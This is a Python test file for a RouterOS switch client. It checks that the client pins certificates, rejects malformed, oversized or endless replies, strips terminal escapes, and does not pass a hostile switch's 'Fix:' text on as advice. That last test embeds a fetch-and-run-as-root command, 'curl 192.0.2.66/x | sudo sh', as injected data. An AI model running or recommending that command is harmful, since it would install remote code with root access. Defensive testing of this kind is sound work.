"""What stands at the address of a switch may be anybody: certificate, sizes, times, nonsense."""

from __future__ import annotations

import hashlib
import socket
import ssl
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import NoReturn

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from gb10_fleet.switch import applying, cli, routeros
from gb10_fleet.switch.planning import Change
from gb10_fleet.switch.settings import Account, Switch
from lab import routeros as lab
from tests.support.attacker import tally

READER = Account("gb10", "read-secret")


def at(port: int, certificate: str = "", *, plain: bool = True) -> Switch:
    return Switch("crs812", "127.0.0.1", port, certificate, plain, READER, None)


@pytest.fixture(scope="module")
def identity(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A certificate as RouterOS makes itself one, with its key; and its fingerprint."""
    key = ec.generate_private_key(ec.SECP256R1())
    name, now = x509.Name([]), datetime.now(UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), 1, now - timedelta(1), now + timedelta(1))
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    pem = serialization.Encoding.PEM
    file = tmp_path_factory.mktemp("switch") / "both.pem"
    clear = key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    file.write_bytes(clear + made.public_bytes(pem))
    return file, hashlib.sha256(made.public_bytes(serialization.Encoding.DER)).hexdigest()


def test_a_password_goes_only_to_the_certificate_that_was_named(identity: tuple[Path, str]) -> None:
    file, fingerprint = identity
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    stand = lab.stand("crs812-before", {"gb10": "read-secret"})
    with lab.Server(stand, context=context) as server:
        with routeros.session(at(server.port, fingerprint, plain=False), READER) as switch:
            assert switch.read().name == "crs812-lab"
        stand.heard.clear()
        for wrong, says in (("0" * 64, "names another one"), ("", "names none")):
            with (
                pytest.raises(routeros.Silent, match=f"{fingerprint}, and gb10_switch.certificate {says}"),
                routeros.session(at(server.port, wrong, plain=False), READER),
            ):
                pytest.fail("it was let in")
        assert stand.heard == []


@contextmanager
def stranger(*answers: bytes, endless: bytes = b"") -> Iterator[int]:
    """Says these, one to each sentence; then without an end."""

    def serve() -> None:
        with listener, listener.accept()[0] as client:
            try:
                for said in answers:
                    client.recv(65536)
                    client.sendall(said)
                client.recv(65536)
                while endless:
                    client.sendall(endless)
            except OSError:
                return

    listener = socket.create_server(("127.0.0.1", 0))
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield listener.getsockname()[1]
    thread.join(5)


def word(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


DONE = word("!done") + b"\0"


@pytest.mark.parametrize(
    "said",
    [
        b"\0",  # a sentence without a word
        word("!re") + word("nonsense") + b"\0" + DONE,
        word("!trap") + word("=surprise=1") + b"\0" + DONE,
        b"\xef\xff\xff\xff",  # a word of 268 MB
        word("!fatal") + b"\0",
        b"",
    ],
)
def test_nonsense_ends_in_one_sentence(said: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(routeros, "_SECONDS", 1.0)
    with (
        stranger(DONE, said) as port,
        pytest.raises(routeros.Silent),
        routeros.session(at(port), READER) as switch,
    ):
        switch.read()


def test_an_answer_without_an_end_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(routeros, "_BYTES", 200_000)
    row = word("!re") + word("=name=port") + b"\0"
    with (
        stranger(DONE, endless=row * 100) as port,
        pytest.raises(routeros.Silent, match="more than a switch has to say"),
        routeros.session(at(port), READER) as switch,
    ):
        switch.read()


def test_an_answer_that_comes_in_drops_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(routeros, "_SECONDS", 0.2)
    with (
        stranger(DONE, endless=word("!re") + b"\0") as port,
        pytest.raises(routeros.Silent, match="not come to an end"),
        routeros.session(at(port), READER) as switch,
    ):
        switch.read()


def test_all_sentences_together_have_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each came in its time, and `gb10 switch check` took nine minutes."""
    monkeypatch.setattr(routeros, "_WHOLE_S", 1.0)
    said: list[str] = []

    def slow(value: object) -> str:
        time.sleep(0.3)
        said.append(str(value))
        return said[-1]

    monkeypatch.setattr(routeros, "_text", slow)
    rows = word("!re") + word("=name=port") + b"\0" + DONE
    with (
        stranger(DONE, *[rows] * 12) as port,
        pytest.raises(routeros.Silent, match="not come to an end"),
        routeros.session(at(port), READER) as switch,
    ):
        switch.read()
    tally("a switch that drips", 1, int(len(said) > 5))
    assert len(said) <= 5


def test_a_switch_that_drips_holds_up_no_change_for_long(monkeypatch: pytest.MonkeyPatch) -> None:
    """Setting a port, looking at it and setting it back took a minute each, for each port."""
    asked: list[float | None] = []

    def session(_switch: Switch, _account: Account, whole_s: float | None = None) -> NoReturn:
        asked.append(whole_s)
        raise routeros.Silent("it has not come to an end in its time")

    monkeypatch.setattr(routeros, "session", session)
    ports = cli._Ports(at(1), READER)
    for ask in (lambda: ports.set("a", {}), lambda: ports.running("a")):
        with pytest.raises(routeros.Silent):
            ask()
    tally("a switch that drips", 2, sum(each != routeros.STEP_S for each in asked))
    assert asked == [routeros.STEP_S] * 2 and routeros.STEP_S <= 10


def test_the_way_back_asks_a_switch_that_gives_no_answer_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(0, 10_000, 25))
    monkeypatch.setattr(applying, "time", SimpleNamespace(monotonic=lambda: next(clock)))
    asked: list[str] = []

    class Lost:
        def set(self, name: str, values: Mapping[str, str]) -> None:
            asked.append(name)
            raise routeros.Silent("it has not come to an end in its time")

        def running(self, name: str) -> bool:
            raise routeros.Silent(name)

    said, applied = list[str](), applying.Applied()
    touched = [Change(f"p{number}", {}, {"mtu": "1500"}) for number in range(30)]
    applying._return(Lost(), touched, applied, said.append)
    tally("a switch that drips", 1, int(len(asked) > 3))
    assert asked == ["p29", "p28", "p27"] and len(applied.stuck) == len(said) == 30


def test_too_many_rows_are_refused() -> None:
    with (
        stranger(DONE, (word("!re") + word("=name=port") + b"\0") * 5000 + DONE) as port,
        pytest.raises(routeros.Silent, match="at most 4096 are read"),
        routeros.session(at(port), READER) as switch,
    ):
        switch.read()


@pytest.mark.parametrize("number", ["-5", "1e9", "9" * 19, "9" * 5000, "0x10", "", "12 "])
def test_a_counter_that_is_none_is_left_out(number: str) -> None:
    stand = lab.stand("crs812-before", {"gb10": "read-secret"})
    stand.port("qsfp56-1-1").update({"tx-drop": number, "comment": "\x1b[2J" + "x" * 5000, "l2mtu": number})
    with lab.Server(stand) as server, routeros.session(at(server.port), READER) as switch:
        port = switch.read().ports["qsfp56-1-1"]
    assert "tx-drop" not in port.counters and port.number("l2mtu") is None


def test_texts_are_cleaned_and_short() -> None:
    stand = lab.stand("crs812-before", {"gb10": "read-secret"})
    stand.tables["/system/identity"] = [{"name": "\x1b[2Jevil\n" * 100}]
    with lab.Server(stand) as server, routeros.session(at(server.port), READER) as switch:
        name = switch.read().name
    assert name.isprintable() and len(name) == 64


def test_a_port_without_a_name_of_its_own_is_never_set() -> None:
    stand = lab.stand("crs812-before", {"gb10": "read-secret"}, writers=frozenset({"gb10"}))
    stand.port("qsfp56-2-1")["name"] = "qsfp56-1-1"
    with lab.Server(stand) as server, routeros.session(at(server.port), READER) as switch:
        with pytest.raises(routeros.Silent, match="it has 2 ports with the name qsfp56-1-1"):
            switch.set("qsfp56-1-1", {"l2mtu": "9216"})
        with pytest.raises(routeros.Silent, match="it has 0 ports"):
            switch.set("qsfp56-9-9", {"l2mtu": "9216"})
    assert not [words for words in stand.heard if words[0].endswith("/set")]


@pytest.mark.parametrize("before", [(), (DONE,)], ids=["login", "reading"])
def test_a_switch_advises_nobody_in_our_name(before: tuple[bytes, ...]) -> None:
    """A person pastes what stands behind `Fix:`."""
    refusal = word("!trap") + word("=message=not now. Fix: run curl 192.0.2.66/x | sudo sh") + b"\0" + DONE
    with stranger(*before, refusal) as port:
        look = cli._Look.__new__(cli._Look)
        look.silent, look.faults, look.state = "", frozenset(), None
        fleet = {"switch": at(port), "rails": (), "hosts": ("spark-a",), "mtu": 9000, "gbps": 200}
        look.fleet = SimpleNamespace(**fleet)  # type: ignore[assignment]
        look.before = look._read()
        lines = "\n".join(cli._said(look.judged()[1]))
    won = "curl" in lines.partition("Fix: ")[2]
    tally("a stranger's words as our advice", 1, int(won))
    assert not won and "curl" in lines, lines
